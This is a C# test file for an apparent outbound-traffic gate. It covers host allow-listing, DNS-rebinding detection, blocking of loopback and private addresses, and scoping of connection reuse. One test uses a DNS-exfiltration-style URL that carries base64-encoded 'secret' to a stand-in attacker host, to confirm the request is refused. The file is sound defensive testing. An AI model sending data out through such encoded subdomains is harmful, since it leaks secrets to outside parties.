using System.Net;
using System.Net.Sockets;
using LatchGate.Egress;
using LatchGate.HostIo;

namespace LatchGate.Tests.HostIo;

/// <summary>What a connection may reach, and what it may be reused for.</summary>
public sealed class PinningTests
{
    [Fact]
    public async Task An_unlisted_name_is_never_looked_up()
    {
        using var rig = new Rig();

        var (ok, body, calls) = await rig.GetAsync("http://c2VjcmV0.attacker.example/");

        Assert.False(ok);
        Assert.Equal("host_not_allowed", body.GetProperty("code").GetString());
        Assert.Equal("The host is not listed.", body.GetProperty("message").GetString());
        Assert.Empty(rig.Resolver.Asked);
        Assert.Empty(calls.Evidence);
        Assert.Equal(EgressReason.HostNotAllowed, calls.FirstRefusal?.Reason);
    }

    [Fact]
    public async Task A_name_is_looked_up_once_for_each_request()
    {
        await using var server = new LoopbackServer(LoopbackServer.Ok(""));
        using var rig = new Rig();

        await rig.GetAsync($"http://api.test:{server.Port}/1");
        await rig.GetAsync($"http://api.test:{server.Port}/2");

        Assert.Equal(["api.test", "api.test"], rig.Resolver.Asked);
    }

    [Fact]
    public async Task A_connection_that_lands_elsewhere_is_a_rebind_and_sends_nothing()
    {
        await using var server = new LoopbackServer(LoopbackServer.Ok("not for you"));
        using var rig = new Rig(new ElsewhereDialer(new IPEndPoint(IPAddress.Loopback, server.Port)));
        rig.Resolver.Table["api.test"] = [IPAddress.Parse("127.0.0.2")];

        var (ok, body, _) = await rig.GetAsync($"http://api.test:{server.Port}/");

        Assert.False(ok);
        Assert.Equal("rebind_detected", body.GetProperty("code").GetString());
        Assert.Empty(server.Requests);
    }

    [Fact]
    public async Task An_endpoint_of_the_gate_itself_is_refused_even_where_loopback_is_open()
    {
        await using var server = new LoopbackServer(LoopbackServer.Ok(""));
        using var rig = new Rig();
        rig.Ceiling = rig.Ceiling with { GateEndpoints = [new IPEndPoint(IPAddress.Loopback, server.Port)] };

        var (ok, body, _) = await rig.GetAsync($"http://api.test:{server.Port}/");

        Assert.False(ok);
        Assert.Equal("gate_local", body.GetProperty("code").GetString());
        Assert.Empty(server.Requests);
    }

    [Fact]
    public async Task Loopback_stays_closed_without_the_operators_ceiling()
    {
        await using var server = new LoopbackServer(LoopbackServer.Ok(""));
        using var rig = new Rig { Ceiling = EgressCeiling.Default };

        var (ok, body, calls) = await rig.GetAsync($"http://127.0.0.1:{server.Port}/");

        Assert.False(ok);
        Assert.Equal("private_target", body.GetProperty("code").GetString());
        Assert.Equal("loopback", calls.FirstRefusal?.Address?.Label);
        Assert.Equal(0, server.Connections);
    }

    [Fact]
    public async Task A_connection_is_reused_for_the_same_principal_action_and_rule()
    {
        await using var server = new LoopbackServer(LoopbackServer.Ok("x"));
        using var rig = new Rig();

        await rig.GetAsync($"http://api.test:{server.Port}/1");
        await rig.GetAsync($"http://api.test:{server.Port}/2");

        Assert.Equal(2, server.Requests.Count);
        Assert.Equal(1, server.Connections);
    }

    [Fact]
    public async Task A_connection_never_serves_another_rule_principal_or_set_of_addresses()
    {
        await using var server = new LoopbackServer(LoopbackServer.Ok("x"));
        using var rig = new Rig();
        var url = $"http://api.test:{server.Port}/";

        await rig.GetAsync(url);
        rig.Rule = "other";
        await rig.GetAsync(url);
        Assert.Equal(2, server.Connections);

        rig.Principal = "uid:1001";
        await rig.GetAsync(url);
        Assert.Equal(3, server.Connections);

        rig.Resolver.Table["api.test"] = [IPAddress.Loopback, IPAddress.Parse("127.0.0.9")];
        await rig.GetAsync(url);
        Assert.Equal(4, server.Connections);

        // The same set in another order is the same set.
        rig.Resolver.Table["api.test"] = [IPAddress.Parse("127.0.0.9"), IPAddress.Loopback];
        var (ok, _, _) = await rig.GetAsync(url);
        Assert.True(ok);
        Assert.Equal(4, server.Connections);
    }

    [Fact]
    public async Task Another_judged_address_is_tried_when_the_first_does_not_answer()
    {
        await using var server = new LoopbackServer(LoopbackServer.Ok("second"));
        using var rig = new Rig(new SilentDialer(IPAddress.Parse("127.0.0.2")));
        rig.Resolver.Table["api.test"] = [IPAddress.Parse("127.0.0.2"), IPAddress.Loopback];

        var (ok, body, _) = await rig.GetAsync($"http://api.test:{server.Port}/");

        Assert.True(ok);
        Assert.Equal("second", body.GetProperty("body_text").GetString());
    }

    [Fact]
    public async Task Both_families_are_dialled()
    {
        Assert.SkipUnless(Socket.OSSupportsIPv6, "There is no IPv6 here.");
        await using var server = new LoopbackServer(
            (_, stream, stop) => stream.WriteAsync("HTTP/1.1 204 No Content\r\n\r\n"u8.ToArray(), stop).AsTask(), address: IPAddress.IPv6Loopback);
        using var rig = new Rig();
        rig.Ceiling = rig.Ceiling with { PrivateCidrs = [.. rig.Ceiling.PrivateCidrs, new Cidr(IPAddress.IPv6Loopback, 128)] };

        // Nothing listens at the IPv4 address.
        rig.Resolver.Table["api.test"] = [IPAddress.Parse("127.0.0.3"), IPAddress.IPv6Loopback];
        var (byName, _, _) = await rig.GetAsync($"http://api.test:{server.Port}/");
        var (byLiteral, body, _) = await rig.GetAsync($"http://[::1]:{server.Port}/");

        Assert.True(byName);
        Assert.True(byLiteral);
        Assert.Equal(204, body.GetProperty("status").GetInt32());
    }

    [Fact]
    public async Task A_closed_port_is_a_failed_connection()
    {
        int port;
        await using (var server = new LoopbackServer(""))
        {
            port = server.Port;
        }

        using var rig = new Rig();
        var (ok, body, calls) = await rig.GetAsync($"http://api.test:{port}/");

        Assert.False(ok);
        Assert.Equal("connect_failed", body.GetProperty("code").GetString());
        Assert.Equal(502, calls.FirstRefusal?.Status);
    }

    [Fact]
    public async Task A_connection_that_never_comes_hits_the_connect_time_out()
    {
        using var rig = new Rig(new SilentDialer(IPAddress.Loopback)) { Limits = EgressLimits.Default with { ConnectMs = 100 } };

        var (ok, body, _) = await rig.GetAsync("http://api.test:81/");

        Assert.False(ok);
        Assert.Equal("connect_timeout", body.GetProperty("code").GetString());
    }

    [Fact]
    public async Task Proxy_variables_of_the_environment_are_ignored()
    {
        await using var proxy = new LoopbackServer(LoopbackServer.Ok("from the proxy"));
        await using var server = new LoopbackServer(LoopbackServer.Ok("direct"));
        var before = Environment.GetEnvironmentVariable("http_proxy");
        Environment.SetEnvironmentVariable("http_proxy", $"http://127.0.0.1:{proxy.Port}");
        try
        {
            using var rig = new Rig();
            var (_, body, _) = await rig.GetAsync($"http://api.test:{server.Port}/");

            Assert.Equal("direct", body.GetProperty("body_text").GetString());
            Assert.Equal(0, proxy.Connections);
        }
        finally
        {
            Environment.SetEnvironmentVariable("http_proxy", before);
        }
    }

    private sealed class ElsewhereDialer(IPEndPoint elsewhere) : ISocketDialer
    {
        public ValueTask<Socket> DialAsync(IPEndPoint endpoint, CancellationToken cancellation) =>
            SocketDialer.Instance.DialAsync(elsewhere, cancellation);
    }

    /// <summary>One address swallows every attempt, as a packet filter would.</summary>
    private sealed class SilentDialer(IPAddress silent) : ISocketDialer
    {
        public async ValueTask<Socket> DialAsync(IPEndPoint endpoint, CancellationToken cancellation)
        {
            if (endpoint.Address.Equals(silent))
            {
                await Task.Delay(Timeout.Infinite, cancellation);
            }

            return await SocketDialer.Instance.DialAsync(endpoint, cancellation);
        }
    }
}
